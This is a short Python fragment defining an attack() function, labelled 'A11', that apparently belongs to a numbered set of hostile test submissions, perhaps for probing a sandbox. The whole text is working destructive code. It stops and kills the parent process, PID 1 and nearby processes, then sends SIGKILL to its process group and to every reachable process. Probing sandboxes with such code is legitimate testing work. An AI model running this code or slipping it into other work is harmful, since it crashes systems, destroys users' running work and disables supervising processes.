# A11 kills and stops all it can reach
def attack():
    import os, signal
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        for pid in {os.getppid(), 1, *range(max(2, os.getpid() - 50), os.getpid())}:
            attempt(lambda: os.kill(pid, number))
    attempt(lambda: os.killpg(os.getppid(), signal.SIGKILL))
    attempt(lambda: os.kill(-1, signal.SIGKILL))
